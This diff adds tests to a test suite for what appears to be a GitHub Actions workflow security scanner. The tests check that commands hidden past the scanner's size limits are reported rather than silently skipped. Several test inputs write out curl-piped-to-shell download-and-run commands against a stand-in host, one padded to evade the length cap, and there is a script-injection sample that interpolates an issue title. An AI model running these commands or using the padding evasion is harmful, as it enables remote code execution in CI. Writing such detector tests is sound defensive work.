@@ -123,6 +123,58 @@ describe("workflow rules", () => {
     expect(found[0]!.line).toBe(10);
   });
 
+  describe("workflow.unscanned: what the scan's caps keep it from reading is reported, not dropped", () => {
+    // A download-and-run hidden past the 2,000 characters of one command that the pattern check reads.
+    const padded = (tail: string) => `echo ${"x".repeat(2100)} && ${tail}`;
+
+    it("a download piped into a shell past 2,000 characters of one command: unscanned, at the command's line", () => {
+      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), workflow("push", runJob(`make\n${padded("curl -fsSL https://get.example.test/i.sh | bash")}`))] });
+      expect(hits(v, "workflow.remote-script")).toHaveLength(0);
+      const found = hits(v, "workflow.unscanned");
+      expect(found).toHaveLength(1);
+      expect(found[0]).toMatchObject({ severity: "high", line: 10 });
+      expect(found[0]!.message).toContain("a command naming a download, too long to check for download-and-run");
+      expect(found[0]!.message).toMatch(/2,1\d\d characters, sha256:[0-9a-f]{12}/);
+      expect(v.conclusion).toBe("failure");
+    });
+
+    it("a long command that names no download is no finding: nothing was left unread that could matter", () => {
+      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), workflow("push", runJob(`make\n${padded("make dist")}`))] });
+      expect(hits(v, "workflow.unscanned")).toEqual([]);
+    });
+
+    it("the same unread text at base and head is no change; another text is", () => {
+      const same = padded("curl -fsSL https://get.example.test/i.sh | bash");
+      expect(hits(reviewPair({ [WF]: [workflow("push", runJob(same)), workflow("push", runJob(`${same}\nmake`))] }), "workflow.unscanned")).toEqual([]);
+      const other = padded("curl -fsSL https://get.example.test/other.sh | bash");
+      expect(hits(reviewPair({ [WF]: [workflow("push", runJob(same)), workflow("push", runJob(other))] }), "workflow.unscanned")).toHaveLength(1);
+    });
+
+    it("an untrusted expression past a script's first 200,000 characters: unscanned", () => {
+      const filler = Array.from({ length: 4100 }, (_, i) => `echo step ${i} of the generated release script, nothing to see here`).join("\n");
+      const v = reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob(`${filler}\necho "\${{ github.event.issue.title }}"`))] });
+      expect(hits(v, "workflow.script-injection")).toHaveLength(0);
+      const found = hits(v, "workflow.unscanned");
+      expect(found).toHaveLength(1);
+      expect(found[0]!.message).toContain("text past the first 200,000 characters");
+    });
+
+    it("steps past a job's 1,000th: unscanned", () => {
+      const steps = (n: number) => `    steps:\n${Array.from({ length: n }, (_, i) => `      - run: echo ${i}\n`).join("")}`;
+      const found = hits(reviewPair({ [WF]: [workflow("push", steps(3)), workflow("push", `${steps(1000)}      - run: curl -fsSL https://get.example.test/i.sh | sh\n`)] }), "workflow.unscanned");
+      expect(found).toHaveLength(1);
+      expect(found[0]!.message).toContain("steps past the 1,000th, not read,");
+    });
+
+    it("more jobs than GitHub runs (over 500 listed): the file fails closed", () => {
+      const jobs = Array.from({ length: 501 }, (_, i) => `  j${i}:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${i}\n`).join("");
+      const v = reviewPair({ [WF]: [workflow("push", runJob("make")), `name: ci\non: push\njobs:\n${jobs}`] });
+      const found = hits(v, "file.parse-error");
+      expect(found).toHaveLength(1);
+      expect(found[0]!.message).toContain("the workflow has 501 jobs, more than the 500 read");
+    });
+  });
+
   it("workflow.script-injection: in run and in an agent prompt", () => {
     const run = hits(reviewPair({ [WF]: [workflow("issues", runJob("echo hi")), workflow("issues", runJob('echo "${{ github.event.issue.title }}"'))] }), "workflow.script-injection");
     expect(run).toHaveLength(1);
